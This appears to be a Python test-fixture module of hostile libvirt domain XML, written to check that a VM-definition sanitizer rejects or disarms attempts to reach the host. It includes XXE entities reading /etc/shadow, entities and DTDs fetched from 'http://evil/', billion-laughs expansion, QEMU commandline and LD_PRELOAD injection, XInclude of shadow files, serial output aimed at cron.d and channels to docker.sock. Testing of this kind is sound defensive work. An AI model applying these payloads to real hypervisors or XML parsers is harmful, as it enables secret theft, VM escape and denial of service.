"""Definitions that try to reach for the host that restores them.

``REFUSED`` must not be read at all; ``DISARMED`` must come out harmless (``assert_harmless``):
whatever they plant names ``/orig/`` or stands in ``FORBIDDEN``.
"""

from __future__ import annotations

FORBIDDEN = (
    "shadow",
    "evil",
    "backingStore",
    "mirror",
    "egd",
    "hostdev",
    "filesystem",
    "XInclude",
    "startupPolicy",
    "10.9.8.7",
    "shmem",
    "seclabel",
    "hugepages",
    "fwcfg",
    "vcpupin",
    "wrapper",
)

_DISK = (
    "<disk type='file' device='disk'><source file='/orig/a'/>"
    "<target dev='vda' bus='virtio'/></disk>"
)


def domain(
    devices: str = _DISK, *, top: str = "", system: str = "", attributes: str = "", prolog: str = ""
) -> str:
    return (
        f"{prolog}<domain type='kvm' {attributes}><name>x</name>"
        "<uuid>4dea22b3-1d52-48f3-a516-782e98ab3fa0</uuid><memory>65536</memory>"
        f"<os><type arch='x86_64' machine='q35'>hvm</type>{system}</os>{top}"
        f"<devices>{devices}</devices></domain>"
    )


def disk(inner: str = "", *, attributes: str = "type='file' device='disk'") -> str:
    return domain(
        f"<disk {attributes}><source file='/orig/a'/><target dev='vda' bus='virtio'/>{inner}</disk>"
    )


def beside(device: str) -> str:
    return domain(_DISK + device)


_LAUGHS = "".join(f"<!ENTITY l{n} '{f'&l{n - 1};' * 10 if n else 'lol'}'>" for n in range(10))

REFUSED = {
    "empty": "",
    "no XML": "hello",
    "cut off": domain()[:-20],
    "internal entity": domain(top="<title>&e;</title>", prolog="<!DOCTYPE d [<!ENTITY e 'x'>]>"),
    "external entity": domain(
        top="<title>&e;</title>", prolog="<!DOCTYPE d [<!ENTITY e SYSTEM 'file:///etc/shadow'>]>"
    ),
    "parameter entity": domain(prolog="<!DOCTYPE d [<!ENTITY % e SYSTEM 'http://evil/'> %e;]>"),
    "billion laughs": domain(top="<title>&l9;</title>", prolog=f"<!DOCTYPE d [{_LAUGHS}]>"),
    "external DTD": domain(prolog="<!DOCTYPE d SYSTEM 'http://evil/d.dtd'>"),
    "undefined entity": domain(top="<title>&nbsp;</title>"),
    "deep nesting": domain(top="<a>" * 5000 + "</a>" * 5000),
    "very deep nesting, never closed": "<domain type='kvm'>" + "<a>" * 100_000,
    "huge attribute": domain(top=f"<title x='{'A' * (1 << 22)}'/>"),
    "huge text": domain(top=f"<description>{'A' * (1 << 22)}</description>"),
    "very many elements": domain(top="<a/>" * 60_000),
    "very many attributes": domain(
        top="<title " + " ".join(f"a{n}=''" for n in range(1000)) + "/>"
    ),
    "another root": "<network type='kvm'><name>x</name></network>",
    "a root of a foreign namespace": domain(attributes="xmlns='urn:evil'"),
    "two roots": domain() + domain(),
    "a NUL": domain(top="<title>a\0b</title>"),
    "a control character by reference": domain(top="<title>&#27;[2J</title>"),
    "a lone surrogate": domain(top="<title>\udc80</title>"),
    "another encoding than it says": "<?xml version='1.0' encoding='no-such'?>\udcff" + domain(),
    "a container": domain().replace("type='kvm'", "type='lxc'", 1),
    "no virtual machine": domain().replace(">hvm<", ">exe<"),
    "no memory": domain().replace("<memory>65536</memory>", ""),
    "memory that is no number": domain().replace("65536", "/orig/x"),
    "no devices": domain().replace(f"<devices>{_DISK}</devices>", ""),
    "no disk for the image": domain(""),
    "two disks on one image": domain(_DISK * 2),
    "a disk whose name is a path": domain(_DISK.replace("vda", "../../vda")),
    "a disk whose name is a high number": domain(_DISK.replace("vda", "sdzzzzzz")),
    "a disk of an unknown kind": disk(attributes="type='file' device='evil'"),
    "a prefix of no namespace": domain(top="<qemu:commandline/>"),
    "an attribute twice": domain(top="<title a='1' a='2'/>"),
}

DISARMED = {
    "QEMU options": domain(
        attributes="xmlns:qemu='http://libvirt.org/schemas/domain/qemu/1.0'",
        top="<qemu:commandline><qemu:arg value='-device'/><qemu:env name='LD_PRELOAD' "
        "value='/orig/evil.so'/></qemu:commandline>",
    ),
    "QEMU options under another prefix": domain(
        top="<q:commandline xmlns:q='http://libvirt.org/schemas/domain/qemu/1.0'>"
        "<q:arg value='evil'/></q:commandline>",
    ),
    "QEMU options as the default namespace": domain(
        top="<commandline xmlns='http://libvirt.org/schemas/domain/qemu/1.0'>"
        "<arg value='evil'/></commandline>",
    ),
    "a known name in a foreign namespace": domain(
        top="<e:title xmlns:e='urn:evil'>evil</e:title><e:devices xmlns:e='urn:evil'/>",
    ),
    "an attribute in a foreign namespace": domain(
        _DISK.replace("<target ", "<target xmlns:e='urn:evil' e:dev='/orig/x' "),
    ),
    "QEMU properties": domain(
        top="<qemu:override xmlns:qemu='http://libvirt.org/schemas/domain/qemu/1.0'>"
        "<qemu:device alias='ua-evil'/></qemu:override>",
    ),
    "XInclude": domain(
        top="<xi:include xmlns:xi='http://www.w3.org/2001/XInclude' href='/orig/etc/shadow' "
        "parse='text'/>",
    ),
    "processing instructions": domain(
        prolog="<?xml-stylesheet href='/orig/evil.xsl'?>", top="<?evil /orig/x?><!-- /orig/c -->"
    ),
    "CDATA": domain(top="<description><![CDATA[<qemu/> /orig/x]]></description>"),
    "a source with a start-up policy": domain(
        _DISK.replace("file='/orig/a'", "file='/orig/a' startupPolicy='optional' dev='/orig/b'")
    ),
    "two sources": disk("<source dev='/orig/b'/><source file='/orig/c' index='2'/>"),
    "two drivers": disk("<driver type='raw'/><driver name='evil' type='qcow2' cache='/orig/x'/>"),
    "two targets": disk("<target dev='vdb' bus='/orig/evil'/>"),
    "a mirror": disk(
        "<mirror type='file' job='copy' ready='yes'><source file='/orig/m'/></mirror>"
    ),
    "a backing chain": disk(
        "<backingStore type='file'><format type='raw'/><source file='/orig/shadow'/>"
        "<backingStore/></backingStore>"
    ),
    "encryption": disk(
        "<encryption format='luks'><secret type='passphrase' uuid='x'/></encryption>"
    ),
    "a network disk": domain(
        "<disk type='network' device='disk'><source protocol='nbd' name='/orig/x' tls='yes'>"
        "<host name='10.9.8.7' transport='unix' socket='/orig/s'/></source>"
        "<target dev='vda'/></disk>"
    ),
    "a block device": disk(attributes="type='block' device='disk' rawio='yes' sgio='unfiltered'"),
    "a vhost-user disk": domain(
        "<disk type='vhostuser' device='disk'><source type='unix' path='/orig/s'>"
        "<reconnect enabled='yes' timeout='1'/></source><target dev='vda'/></disk>"
    ),
    "a directory as a disk": domain(
        "<disk type='dir' device='disk'><source dir='/orig/d'/><target dev='vda'/></disk>"
    ),
    "a host's CD-ROM": beside(
        "<disk type='block' device='cdrom'><source dev='/orig/sr0'/><target dev='sdb'/></disk>"
    ),
    "a serial with a path": disk("<serial>/orig/x,evil=1</serial>"),
    "firmware template": domain(
        system="<loader type='pflash' readonly='no'>/orig/evil.fd</loader>"
        "<nvram template='/etc/shadow'>/orig/shadow</nvram>"
    ),
    "firmware over the network": domain(
        system="<nvram type='network'><source protocol='iscsi' name='/orig/x'>"
        "<host name='10.9.8.7'/></source></nvram>"
    ),
    "a BIOS file": domain(system="<loader type='rom'>/orig/evil.rom</loader>"),
    "a kernel": domain(
        system="<kernel>/orig/shadow</kernel><initrd>/orig/i</initrd><cmdline>evil</cmdline>"
        "<dtb>/orig/d</dtb><shim>/orig/s</shim>"
    ),
    "an ACPI table": domain(system="<acpi><table type='slic'>/orig/shadow</table></acpi>"),
    "firmware configuration": domain(
        top="<sysinfo type='fwcfg'><entry name='opt/x' file='/orig/shadow'/></sysinfo>"
    ),
    "an SMBIOS text": domain(
        top="<sysinfo type='smbios'><system><entry name='serial'>/orig/x</entry>"
        "<entry name='evil'>1</entry><evil/></system><evil/></sysinfo>"
    ),
    "an emulator": beside("<emulator>/orig/wrapper</emulator>"),
    "an emulator that looks usual": beside("<emulator>/usr/bin/../../orig/wrapper</emulator>"),
    "a random source": beside(
        "<rng model='virtio'><backend model='egd' type='unix'><source mode='connect' "
        "path='/orig/s'/></backend></rng>"
    ),
    "a random file": beside(
        "<rng model='/orig/x'><backend model='random'>/orig/shadow</backend></rng>"
    ),
    "serial to a device": beside("<serial type='dev'><source path='/orig/ttyS0'/></serial>"),
    "serial to a file": beside(
        "<serial type='file'><source path='/orig/cron.d/evil' append='on'>"
        "<seclabel model='dac' relabel='no'/></source><log file='/orig/l'/></serial>"
    ),
    "serial to the network": beside(
        "<serial type='tcp'><source mode='bind' host='10.9.8.7' service='1' tls='no'/>"
        "<protocol type='raw'/></serial>"
    ),
    "serial to a pipe": beside("<serial type='pipe'><source path='/orig/p'/></serial>"),
    "console with a tty": beside("<console type='dev' tty='/orig/tty'/>"),
    "a channel's socket": beside(
        "<channel type='unix'><source mode='connect' path='/orig/docker.sock'/>"
        "<target type='virtio' name='org.x'/></channel>"
    ),
    "a channel whose name is a path": beside(
        "<channel type='unix'><target type='virtio' name='../../../orig/x'/></channel>"
    ),
    "a channel called up": beside(
        "<channel type='unix'><target type='virtio' name='..'/></channel>"
    ),
    "a card with a script": beside(
        "<interface type='ethernet'><script path='/orig/evil.sh'/><target dev='evil0'/></interface>"
        "<interface type='bridge'><source bridge='br0'/><script path='/orig/evil.sh'/>"
        "<backend tap='/orig/tun' vhost='/orig/vhost'/></interface>"
    ),
    "a card with a ROM": beside(
        "<interface type='user'><rom file='/orig/evil.rom' bar='on'/>"
        "<backend type='passt' logFile='/orig/l'/></interface>"
    ),
    "a card on a path": beside(
        "<interface type='network'><source network='../orig/x'/></interface>"
        "<interface type='bridge'><source bridge='/orig/br'/></interface>"
    ),
    "a card of a server": beside(
        "<interface type='server'><source address='10.9.8.7' port='1'/></interface>"
        "<interface type='vdpa'><source dev='/orig/vdpa'/></interface>"
    ),
    "a host device": beside(
        "<hostdev mode='capabilities' type='storage'><source><block>/orig/sda</block></source>"
        "</hostdev><hostdev mode='subsystem' type='pci'><source><address domain='zz' bus='09' "
        "slot='08' function='0'/></source></hostdev>"
    ),
    "a host's folder": beside(
        "<filesystem type='mount'><binary path='/orig/virtiofsd'/><source dir='/orig'/>"
        "<target dir='x'/></filesystem>"
    ),
    "shared memory": beside(
        "<shmem name='../orig'><server path='/orig/s'/></shmem><lease><target path='/orig/l'/>"
        "</lease><redirdev type='dev'><source path='/orig/u'/></redirdev>"
    ),
    "a TPM of the host": beside(
        "<tpm><backend type='passthrough'><device path='/orig/tpm0'/></backend></tpm>"
        "<tpm><backend type='external'><source type='unix' path='/orig/s'/></backend></tpm>"
    ),
    "a TPM with state elsewhere": beside(
        "<tpm model='/orig/x'><backend type='emulator' version='/orig/y' debug='/orig/z'>"
        "<encryption secret='evil'/><source type='dir' path='/orig/t'/></backend></tpm>"
    ),
    "a screen for everybody": beside(
        "<graphics type='vnc' listen='0.0.0.0' port='5900' socket='/orig/s' keymap='../evil'>"
        "<listen type='socket' socket='/orig/s'/><listen type='network' network='evil'/></graphics>"
    ),
    "SPICE with a render node": beside(
        "<graphics type='spice' tlsPort='1' passwd='evil'><gl enable='yes' "
        "rendernode='/orig/dri'/><channel name='main' mode='insecure'/></graphics>"
        "<graphics type='sdl' display='evil' xauth='/orig/x'/>"
        "<graphics type='dbus' address='unix:path=/orig/b' p2p='no'/>"
    ),
    "sound to a file": beside(
        "<audio id='1' type='file' path='/orig/a.wav'/><audio id='2' type='oss'>"
        "<input dev='/orig/dsp'/></audio>"
    ),
    "a video worker": beside(
        "<video><driver name='vhostuser'/><model type='virtio'>"
        "<acceleration accel3d='yes' rendernode='/orig/dri'/></model></video>"
    ),
    "a watchdog that dumps": beside("<watchdog model='i6300esb' action='dump'/>"),
    "persistent memory": beside(
        "<memory model='nvdimm'><source><path>/orig/x</path></source></memory>"
        "<memory model='dimm'><source><nodemask>0</nodemask></source><target><size>1</size>"
        "<node>/orig/x</node></target></memory>"
    ),
    "input of the host": beside("<input type='evdev'><source dev='/orig/event0'/></input>"),
    "a controller of nowhere": beside(
        "<controller type='/orig/x' index='0'/><controller type='scsi' index='0' model='evil'>"
        "<driver queues='/orig/q'/></controller>"
    ),
    "an address that is no number": beside(
        "<panic model='isa'><address type='isa' iobase='/orig/x' irq='evil'/></panic>"
    ),
    "an alias with a path": beside("<panic model='isa'><alias name='ua-../orig/x'/></panic>"),
    "memory of the host": domain(
        top="<memoryBacking><hugepages/><source type='file'/></memoryBacking>"
        "<numatune><memory nodeset='0'/></numatune>"
    ),
    "cgroups and labels": domain(
        top="<resource><partition>/orig/p</partition></resource><seclabel type='none'/>"
        "<cputune><vcpupin vcpu='0' cpuset='0'/></cputune>"
        "<blkiotune><device><path>/orig/d</path></device></blkiotune>"
    ),
    "every element twice": domain().replace(
        "</domain>",
        "<name>evil</name><uuid>evil</uuid><memory>/orig/x</memory><os><kernel>/orig/k</kernel>"
        "</os><devices><hostdev/></devices><cpu/><cpu mode='evil'/></domain>",
    ),
    "a name that is a path": domain().replace("<name>x</name>", "<name>../../orig/x</name>"),
    "a name of two lines": domain().replace("<name>x</name>", "<name>x\nevil\t</name>"),
    "a UUID that is none": domain().replace("4dea22b3-1d52", "/orig/x"),
    "a clock in a file": domain(
        top="<clock offset='timezone' timezone='../../orig/x'><timer name='rtc' track='evil'/>"
        "</clock>"
    ),
    "a time zone with an absolute path": domain(
        top="<clock offset='timezone' timezone='/orig/x'/>"
    ),
    "metadata": domain(
        top="<metadata><e:e xmlns:e='urn:evil'>/orig/x</e:e><l:libosinfo "
        "xmlns:l='http://libosinfo.org/xmlns/libvirt/domain/1.0'><l:os id='file:///orig/x'>"
        "<evil/></l:os></l:libosinfo></metadata>"
    ),
    "a CPU with options": domain(
        top="<cpu mode='custom'><model>qemu64,evil=on</model><feature name='x,path=/orig/x' "
        "policy='force'/><vendor>evil/x</vendor></cpu>"
    ),
    "a machine with options": domain().replace("'q35'", "'q35,evil=/orig/x'"),
    "an architecture that is a path": domain().replace("'x86_64'", "'../orig/x'"),
    "features with values": domain(
        top="<features><acpi evil='/orig/x'/><hyperv><vendor_id state='on' value='a,evil=b'/>"
        "</hyperv><gic version='/orig/x'/><evil/></features>"
    ),
    "an LXC init": domain(system="<init>/orig/sh</init><initarg>evil</initarg>"),
    "a boot loader": domain(top="<bootloader>/orig/pygrub</bootloader>"),
    "four thousand million CPUs": domain(top="<vcpu current='4294967295'>4294967295</vcpu>"),
    "CPUs of no number": domain(
        top="<vcpu>evil</vcpu><vcpus><vcpu id='99999' enabled='yes'/></vcpus>"
    ),
    "a topology without end": domain(
        top="<cpu><topology sockets='2147483647' cores='2147483647' threads='1'/></cpu>"
    ),
    "iothreads without end": domain(top="<iothreads>2147483647</iothreads>"),
    "iothreads of high numbers": domain(
        top="<iothreads>1</iothreads><iothreadids><iothread id='4294967295' "
        "thread_pool_max='2147483647'/></iothreadids>"
    ),
    "a distance to nowhere": domain(
        top="<cpu><numa><cell id='0' cpus='0' memory='65536'><distances><sibling id='8' "
        "value='20'/></distances></cell></numa></cpu>"
    ),
    "a distance far away": domain(
        top="<cpu><numa><cell cpus='0' memory='65536'><distances><sibling id='4294967295' "
        "value='4294967295'/></distances></cell></numa></cpu>"
    ),
    "a NUMA cell far away": domain(
        top="<cpu><numa><cell id='4294967295' cpus='0' memory='65536'/></numa></cpu>"
    ),
    "a PCI controller far away": beside(
        "<controller type='pci' index='4294967295' model='pcie-root-port'>"
        "<target chassis='4294967295' port='0xffffffff' busNr='4294967295'/></controller>"
    ),
    "a SCSI controller far away": beside(
        "<controller type='scsi' index='2147483647'><driver queues='4294967295'/></controller>"
    ),
    "a serial controller with ports without end": beside(
        "<controller type='virtio-serial' index='0' ports='4294967295' vectors='4294967295'/>"
    ),
    "a channel far away": beside(
        "<channel type='unix'><target type='virtio' name='a'/><address type='virtio-serial' "
        "controller='4294967295' bus='4294967295' port='4294967295'/></channel>"
    ),
    "a disk far away": disk(
        "<address type='drive' controller='4294967295' bus='0' target='0' unit='4294967295'/>"
    ),
    "a PCI place far away": disk(
        "<address type='pci' domain='0xffffffff' bus='0xffffffff' slot='0xffffffff' function='9'/>"
    ),
    "memory slots without end": domain(
        top="<maxMemory slots='4294967295' unit='PiB'>99999999999999999999</maxMemory>"
    ),
    "a serial port far away": beside("<serial type='pty'><target port='4294967295'/></serial>"),
    "queues without end": disk("<driver name='qemu' type='raw' queues='4294967295'/>"),
    "screens without end": beside(
        "<video><model type='virtio' heads='4294967295' vram='4294967295'>"
        "<resolution x='4294967295' y='4294967295'/></model></video>"
    ),
    "a thousand cards": beside("<interface type='user'/>" * 1000),
    "three hundred buses": beside(
        "".join(f"<controller type='pci' index='{n}' model='pcie-root-port'/>" for n in range(300))
    ),
}
